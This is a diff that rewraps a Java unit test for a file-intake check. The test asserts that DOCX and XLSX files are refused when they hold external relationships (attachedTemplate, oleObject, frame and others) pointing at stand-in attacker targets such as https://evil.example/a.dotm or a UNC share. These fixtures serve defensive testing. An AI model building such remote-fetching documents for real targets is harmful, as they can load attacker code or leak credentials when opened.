@@ -121,19 +121,30 @@ class FileSignatureTest {
   void anOfficeFileThatWouldFetchSomethingWhenOpenedIsNotTaken() throws IOException {
     String relation =
         "<Relationships><Relationship Id='a' Type='http://x/%s' Target='%s' TargetMode='External'/></Relationships>";
-    for (String type : List.of("attachedTemplate", "oleObject", "frame", "aFChunk", "subDocument")) {
-      for (String target : List.of("https://evil.example/a.dotm", "\\\\evil.example\\a", "file://evil.example/a")) {
-        for (String part : List.of("word/_rels/settings.xml.rels", "word/glossary/_rels/document.xml.rels")) {
+    for (String type :
+        List.of("attachedTemplate", "oleObject", "frame", "aFChunk", "subDocument")) {
+      for (String target :
+          List.of("https://evil.example/a.dotm", "\\\\evil.example\\a", "file://evil.example/a")) {
+        for (String part :
+            List.of("word/_rels/settings.xml.rels", "word/glossary/_rels/document.xml.rels")) {
           assertThat(refusedAs(FileType.DOCX, part, relation.formatted(type, target)))
               .as(type + " " + target)
               .isEqualTo("intake.refused.outside");
         }
-        assertThat(refusedAs(FileType.XLSX, "xl/worksheets/_rels/sheet1.xml.rels", relation.formatted(type, target)))
+        assertThat(
+                refusedAs(
+                    FileType.XLSX,
+                    "xl/worksheets/_rels/sheet1.xml.rels",
+                    relation.formatted(type, target)))
             .isEqualTo("intake.refused.outside");
       }
     }
     for (String type : List.of("hyperlink", "image", "externalLinkPath")) {
-      assertThat(refusedAs(FileType.DOCX, "word/_rels/document.xml.rels", relation.formatted(type, "https://example.org/")))
+      assertThat(
+              refusedAs(
+                  FileType.DOCX,
+                  "word/_rels/document.xml.rels",
+                  relation.formatted(type, "https://example.org/")))
           .isEmpty();
     }
   }
